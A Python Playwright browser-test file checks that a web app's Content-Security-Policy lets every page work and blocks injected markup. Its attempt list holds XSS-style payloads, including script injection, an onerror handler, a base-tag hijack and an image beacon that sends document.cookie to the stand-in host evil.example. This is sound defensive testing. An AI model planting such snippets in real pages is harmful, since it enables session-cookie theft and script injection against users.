"""All pages under the Content-Security-Policy: nothing they need is refused, and nothing else."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.conftest import refusals
from tests.browser.lab import Lab
from tests.serve import App

pytestmark = pytest.mark.browser
OpenPage = Callable[..., Page]
PAGES = {
    "Lab": "Learning rate",
    "Race": "What differs",
    "Why?": "Evidence",
    "Mistakes": "Choose a picture to show it to the model.",
    "Recipes": "Receipts",
    "Data": "training pictures",
}
# Each as markup that got onto the page somehow would try it.
_ATTEMPTS = {
    "script": "const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
    "document.body.append(s)",
    "handler": "const i = document.createElement('div'); i.innerHTML ="
    "'<img src=x onerror=\"window.ran = 1\">'; document.body.append(i)",
    "frame": "const f = document.createElement('iframe'); f.src = 'https://evil.example';"
    "document.body.append(f)",
    "beacon": "const b = new Image(); b.src = 'https://evil.example/?c=' + document.cookie",
    "fetch": "fetch('https://evil.example').catch(() => {})",
    "base": "const e = document.createElement('base'); e.href = 'https://evil.example';"
    "document.head.append(e)",
}


def test_every_page_works_under_the_policy(open_page: OpenPage) -> None:
    """The fixture fails when the browser has refused anything."""
    lab = Lab(open_page())
    lab.draw()
    for name, to_be_seen in PAGES.items():
        lab.page.get_by_role("link", name=name, exact=True).click()
        expect(lab.page.get_by_text(to_be_seen).first).to_be_visible()


def test_the_policy_refuses_what_injected_markup_would_try(
    app: App, contexts: dict[bool, BrowserContext]
) -> None:
    page = contexts[False].new_page()
    refused: list[str] = []
    outside: list[str] = []
    page.on("console", lambda said: refused.extend(refusals(said.text)))
    page.route("https://evil.example/**", lambda route: outside.append(route.request.url))
    page.goto(app.url)
    for attempt in _ATTEMPTS.values():
        page.evaluate(f"() => {{ {attempt} }}")
    page.wait_for_timeout(500)  # nothing is to happen, and nothing tells when it would have
    assert page.evaluate("window.ran") is None
    assert len(refused) >= len(_ATTEMPTS)
    assert not outside
    page.close()
